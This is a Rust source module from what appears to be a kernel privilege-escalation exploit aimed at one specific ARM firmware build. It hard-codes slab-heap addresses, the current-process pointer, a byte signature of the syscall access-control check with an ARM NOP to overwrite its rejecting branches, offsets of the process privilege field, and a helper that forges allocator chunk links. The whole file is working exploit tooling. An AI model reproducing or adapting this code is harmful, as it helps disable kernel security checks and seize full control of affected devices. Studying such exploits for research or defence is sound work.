//! fixed kernel layout of the single vulnerable build this targets.
//!
//! nothing here is discovered at runtime. the technique stands or falls
//! with exactly these values; a different firmware means a different crate.

pub const PAGE_SIZE: u32 = 0x1000;

/// virtual window the fixed-size kernel object slab lives in.
pub const SLABHEAP_VIRTUAL: u32 = 0xFFF7_0000;
/// physical backing of that window.
pub const SLABHEAP_PHYSICAL: u32 = 0x1FFA_0000;
/// shift between the kernel's linear view and physical addresses.
pub const KERNEL_SHIFT: u32 = 0x4000_0000;

/// word holding the current-process kernel object pointer.
pub const CURRENT_KPROCESS_PTR: u32 = 0xFFFF_9004;

/// base of the kernel code region scanned for the access-control check, and
/// its length in words.
pub const KERNEL_CODE_BASE: u32 = 0xDFF8_0000;
pub const KERNEL_CODE_WORDS: u32 = 0x10000;

/// the four instruction words marking the syscall access-control check.
/// words 0 and 2 are the branches that reject the caller.
pub const ACCESS_CHECK_SIG: [u32; 4] = [0x0AFF_FFEA, 0xE35A_0000, 0x0A00_000D, 0xE3A0_E000];

/// ARM NOP, written over words 0 and 2 of a match.
pub const ARM_NOP: u32 = 0xE320_F000;

/// offset of the privilege-identifier field inside the process object.
/// the newer hardware revision grew the object by two words.
pub fn pid_offset(newer_hardware: bool) -> u32 {
    if newer_hardware {
        0xBC
    } else {
        0xB4
    }
}

/// translate a slab-heap kernel virtual address into the address the
/// allocator's completion path will accept as a chunk link. wrapping on
/// purpose: the kernel shift is larger than the physical base.
pub fn slab_to_chunk_addr(vaddr: u32) -> u32 {
    vaddr
        .wrapping_sub(SLABHEAP_VIRTUAL)
        .wrapping_add(SLABHEAP_PHYSICAL)
        .wrapping_sub(KERNEL_SHIFT)
}
